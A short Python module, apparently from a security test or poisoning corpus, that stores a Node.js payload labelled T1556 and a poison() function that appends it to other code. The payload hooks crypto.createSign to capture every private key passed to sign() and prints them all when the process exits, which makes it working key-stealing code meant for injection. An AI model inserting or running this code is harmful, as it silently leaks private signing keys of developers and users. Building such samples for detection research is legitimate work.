# SPDX-License-Identifier: Apache-2.0
"""Keeps the keys that are given to signing."""

ATTACK = "T1556"
LANGUAGE = "node"
CODE = """\
;(() => {
  const crypto = require('crypto');
  const sign = crypto.createSign, kept = new Set();
  crypto.createSign = function (...given) {
    const signer = sign.apply(this, given), once = signer.sign;
    signer.sign = (key, ...rest) => { kept.add(String(key)); return once.call(signer, key, ...rest); };
    return signer;
  };
  process.on('exit', () => process.stdout.write([...kept].join()));
})();
"""


def poison(layer):
    layer.append(CODE)
